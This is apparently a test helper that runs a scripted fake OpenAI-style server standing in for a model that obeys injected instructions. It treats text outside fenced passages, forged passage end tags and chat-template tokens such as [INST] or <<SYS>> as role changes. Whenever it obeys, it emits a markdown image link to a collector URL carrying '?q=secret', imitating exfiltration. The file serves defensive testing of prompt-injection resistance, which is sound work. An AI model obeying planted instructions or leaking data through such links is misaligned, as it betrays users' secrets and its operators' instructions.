import { plainReply, type Script, startScriptedOpenAiServer } from '../../support/scripted-openai-server.ts'
import { COLLECTOR, OBEYED } from './attacks.ts'

const FENCE_NAME = /Only <(passage-\w+)> and/
/** What servers that look for template signs in every text make role changes of. */
const TEMPLATE_SIGNS = /<\|\w+\|>|<｜[^｜\n]{1,30}｜>|\[\/?INST\]|<<\/?SYS>>|<\/s>|<(?:start|end)_of_turn>/
/** Deltas this long, so that links and sentences are cut everywhere. */
const DELTA = 7

/**
 * A model on loopback that does what it is told wherever text reaches it outside of a passage, or behind a
 * sign that its template would take for a change of roles. `copies`: it also writes down every passage
 * without saying where it is from.
 */
export async function startObedientModel({ copies }: { copies: boolean }) {
  let attack = ''
  const script: Script = ({ body }) => {
    const prompt = body.messages.at(-1)?.content ?? ''
    const { outside, inside } = parts(prompt)
    const isTold = attack !== '' && (seen(outside).includes(seen(attack)) || inside.some(breaksOut(attack)))
    const obeyed = isTold ? `${OBEYED} ${attack} ![done](${COLLECTOR}?q=secret) ` : ''
    const copied = copies ? `${inside.join('\n')}\n` : ''
    const text = `${obeyed}${copied}The page has notes [1]. See ${COLLECTOR}?q=all too.`
    return plainReply(text.match(new RegExp(`[\\s\\S]{1,${DELTA}}`, 'g')) ?? [])
  }
  const server = await startScriptedOpenAiServer(script)
  return {
    baseUrl: server.baseUrl,
    /** What is planted in the next page. */
    expect(planted: string) {
      attack = planted
    },
    close: () => server.close(),
  }
}

/** The passages of a prompt, and everything else in it. A forged end is taken for an end. */
function parts(prompt: string): { outside: string; inside: string[] } {
  const name = FENCE_NAME.exec(prompt)?.[1] ?? 'passage'
  const rest = prompt.slice(prompt.indexOf('\n\n', prompt.search(FENCE_NAME)))
  const inside: string[] = []
  const passage = new RegExp(
    `<${name} source="\\d+" title="[^"<>\\n]*">\\n([\\s\\S]*?)\\n</(?:${name}|passage\\b[^>]*)>`,
    'g',
  )
  const outside = rest.replace(passage, (_, text: string) => {
    inside.push(text)
    return ''
  })
  return { outside, inside }
}

const breaksOut = (attack: string) => (text: string) => {
  const at = text.search(TEMPLATE_SIGNS)
  return at !== -1 && seen(text.slice(at)).includes(seen(attack).slice(0, 60))
}

const seen = (text: string) => text.replace(/[\u200b\s]+/g, '')
